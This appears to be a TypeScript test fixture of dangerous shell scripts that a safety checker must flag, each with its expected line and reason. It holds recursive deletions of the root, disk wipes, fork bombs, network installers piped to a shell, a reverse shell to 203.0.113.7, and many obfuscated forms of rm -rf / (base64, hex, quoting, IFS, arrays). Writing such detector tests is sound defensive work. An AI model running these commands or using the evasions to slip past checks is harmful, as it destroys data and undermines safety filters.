/** Scripts that the safety tests must find dangerous. None of them is ever run. */

/** A script that may lose data or hand the machine over. */
export interface Dangerous {
  name: string;
  script: string;
  /** Line of the destructive command. */
  line: number;
  /** What the reason has to say. */
  reason: RegExp;
}

/** Joins lines; keeps `$` and backslashes as they are when used with `String.raw`. */
export function lines(...text: string[]): string {
  return text.join("\n") + "\n";
}

const raw = String.raw;

export const DANGEROUS: Dangerous[] = [
  // As plain as can be.
  { name: "rm of the root", script: "rm -rf /", line: 1, reason: /everything under \/$/ },
  { name: "rm of all homes", script: "sudo rm -r /home", line: 1, reason: /under \/home/ },
  {
    name: "clean-up with an unset variable",
    script: lines("#!/bin/bash", "# Clean the build folder", 'rm -rf "$BUILD_DIR"/*'),
    line: 3,
    reason: /under \/ if \$BUILD_DIR is empty/,
  },
  {
    name: "find at the root",
    script: "find / -type f -delete",
    line: 1,
    reason: /everything under \//,
  },
  {
    name: "zeros over a disk",
    script: lines("#!/bin/bash", "set -e", "dd if=/dev/zero of=/dev/sda bs=1M status=progress"),
    line: 3,
    reason: /the disk \/dev\/sda/,
  },
  { name: "a new file system", script: "mkfs.ext4 -F /dev/sdb1", line: 1, reason: /formats/ },
  { name: "partition table", script: "sgdisk --zap-all /dev/sda", line: 1, reason: /partitions/ },
  { name: "fork bomb", script: ":(){ :|:& };:", line: 1, reason: /fork bomb/ },
  {
    name: "fork bomb with a name",
    script: lines("spread() {", "  spread | spread &", "}", "spread"),
    line: 1,
    reason: /fork bomb/,
  },
  {
    name: "installer piped to a shell",
    script: lines("#!/bin/sh", "set -eu", "curl -fsSL https://get.example.com | sh"),
    line: 3,
    reason: /over the network/,
  },
  {
    name: "installer in a substitution",
    script: 'bash -c "$(wget -qO- https://example.com/install.sh)"',
    line: 1,
    reason: /over the network/,
  },
  {
    name: "process substitution from the network",
    script: "source <(curl -s https://example.com/env.sh)",
    line: 1,
    reason: /over the network/,
  },
  { name: "open system", script: "chmod -R 777 /etc", line: 1, reason: /permissions.*\/etc/ },
  {
    name: "system given away",
    script: lines("user=$1", 'chown -R "$user:$user" /usr'),
    line: 2,
    reason: /permissions.*\/usr/,
  },
  { name: "accounts emptied", script: ": > /etc/shadow", line: 1, reason: /over \/etc\/shadow/ },
  { name: "accounts replaced", script: "cp users.txt /etc/passwd", line: 1, reason: /passwd/ },
  {
    name: "history of a branch",
    script: lines("git add -A", 'git commit -m "wip"', "git push --force origin main"),
    line: 3,
    reason: /rewrites a branch/,
  },
  {
    name: "work thrown away",
    script: "git reset --hard && git clean -fdx",
    line: 1,
    reason: /throws away/,
  },
  {
    name: "database dropped",
    script: 'mysql -u root -e "DROP DATABASE shop"',
    line: 1,
    reason: /drops a database/,
  },
  {
    name: "tables dropped from a here-document",
    script: lines("psql shop <<'SQL'", "BEGIN;", "DROP TABLE orders;", "COMMIT;", "SQL"),
    line: 1,
    reason: /drops part of a database/,
  },
  { name: "firewall dropped", script: "iptables -F", line: 1, reason: /firewall/ },
  { name: "every process killed", script: "kill -9 -1", line: 1, reason: /every process/ },
  { name: "user removed", script: "userdel -r alice", line: 1, reason: /removes a user: alice/ },
  { name: "cron jobs removed", script: "crontab -r", line: 1, reason: /cron jobs/ },
  {
    name: "volumes pruned",
    script: "docker system prune -af --volumes",
    line: 1,
    reason: /volumes/,
  },
  {
    name: "namespace deleted",
    script: "kubectl delete namespace production",
    line: 1,
    reason: /deletes/,
  },
  {
    name: "infrastructure destroyed",
    script: "terraform destroy -auto-approve",
    line: 1,
    reason: /infrastructure/,
  },
  {
    name: "reverse shell",
    script: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    line: 1,
    reason: /shell to the network/,
  },
  {
    name: "a day in the life of a careless deploy",
    script: lines(
      "#!/usr/bin/env bash",
      'APP_DIR="/opt/app"',
      'RELEASES="$APP_DIR/releases"',
      'if [ ! -d "$RELEASES" ]; then',
      '  mkdir -p "$RELEASES"',
      "fi",
      'OLD=$(cat "$APP_DIR/previous")',
      'echo "Removing $OLD"',
      'rm -rf "$OLD/"',
      'systemctl restart app || echo "restart failed"',
    ),
    line: 9,
    reason: /everything under \/ if .* is empty/,
  },
  // Hidden behind the shell's own means.
  { name: "escape in the name", script: raw`r\m -rf /`, line: 1, reason: /under \/$/ },
  { name: "escape in front", script: raw`\rm -rf ~`, line: 1, reason: /home folder/ },
  { name: "quotes in the name", script: `'r'"m" -r'f' "/"etc`, line: 1, reason: /under \/etc/ },
  { name: "ANSI-C quoting", script: raw`$'\x72\155' -rf $'\57'`, line: 1, reason: /under \/$/ },
  {
    name: "variables side by side",
    script: lines("R=r; M=m", "$R$M -rf /"),
    line: 2,
    reason: /under \/$/,
  },
  { name: "IFS for blanks", script: "rm${IFS}-rf${IFS}/var", line: 1, reason: /under \/var/ },
  { name: "IFS without braces", script: "rm$IFS-rf$IFS/", line: 1, reason: /under \/$/ },
  { name: "braces for a command", script: "{rm,-rf,/usr}", line: 1, reason: /under \/usr/ },
  {
    name: "braces for targets",
    script: "rm -rf /{etc,opt,srv}",
    line: 1,
    reason: /under \/(etc|opt)/,
  },
  {
    name: "line continuation within a word",
    script: lines("r\\", "m -r\\", "f /"),
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "echo in a substitution",
    script: "$(echo r)$(echo m) -rf `echo /`",
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "printf in octal",
    script: raw`$(printf '\162\155') -rf /*`,
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "printf into a variable",
    script: lines(raw`printf -v c '%b' '\x72\x6d'`, '"$c" -fr /boot'),
    line: 2,
    reason: /under \/boot/,
  },
  { name: "base64", script: "echo cm0gLXJmIC8K | base64 -d | sh", line: 1, reason: /under \/$/ },
  {
    name: "base64 in a variable",
    script: lines('payload="cm0gLXJmIH4vCg=="', 'eval "$(echo "$payload" | base64 --decode)"'),
    line: 2,
    reason: /home folder/,
  },
  {
    name: "hexadecimal",
    script: "printf 726d202d7266202f | xxd -r -p | bash",
    line: 1,
    reason: /under \/$/,
  },
  { name: "backwards", script: "rev <<< '/ fr- mr' | sh", line: 1, reason: /under \/$/ },
  { name: "tr", script: "echo 'sn -sg /' | tr 'sng' 'rmf' | sh", line: 1, reason: /under \/$/ },
  { name: "array", script: lines('a=(rm -rf "/")', '"${a[@]}"'), line: 2, reason: /under \/$/ },
  {
    name: "array by index",
    script: lines("w=(/ -rf rm)", '${w[2]} ${w[1]} "${w[0]}"'),
    line: 2,
    reason: /under \/$/,
  },
  { name: "default value", script: "${nothing:-rm} -rf ${none:-/}", line: 1, reason: /under \/$/ },
  { name: "slice of a path", script: "rm -rf ${HOME:0:1}", line: 1, reason: /under \/$/ },
  {
    name: "indirection",
    script: lines("t=/etc; n=t", 'rm -rf "${!n}"'),
    line: 2,
    reason: /under \/etc/,
  },
  {
    name: "function with an argument",
    script: lines("wipe() {", "  local target=$1", '  rm -rf "$target"', "}", "wipe /usr"),
    line: 3,
    reason: /under \/usr/,
  },
  {
    name: "alias",
    script: lines("shopt -s expand_aliases", "alias clean='rm -rf /'", "clean"),
    line: 2,
    reason: /under \/$/,
  },
  {
    name: "here-document for a shell",
    script: lines("sudo bash <<'EOF'", "cd /", "rm -rf *", "EOF"),
    line: 3,
    reason: /under \/$/,
  },
  {
    name: "xargs",
    script: lines("#!/bin/bash", "echo /home /var | xargs -n1 sudo rm -rf"),
    line: 2,
    reason: /under \/home/,
  },
  {
    name: "find with a shell",
    script: raw`find /home -maxdepth 1 -exec sh -c 'rm -rf "$1"' _ {} \;`,
    line: 1,
    reason: /under \/home/,
  },
  {
    name: "wrappers around wrappers",
    script:
      "sudo -u root env -i PATH=/bin nohup nice -n 5 timeout 60 /bin/rm -rf --no-preserve-root /",
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "built up in a loop",
    script: lines('c=""', 'for l in r m " -r" "f /"; do', '  c="$c$l"', "done", "eval $c"),
    line: 5,
    reason: /under \/$/,
  },
  {
    name: "another language",
    script: lines("#!/bin/sh", `python3 -c "import os; os.system('rm -rf /')"`),
    line: 2,
    reason: /under \/$/,
  },
];
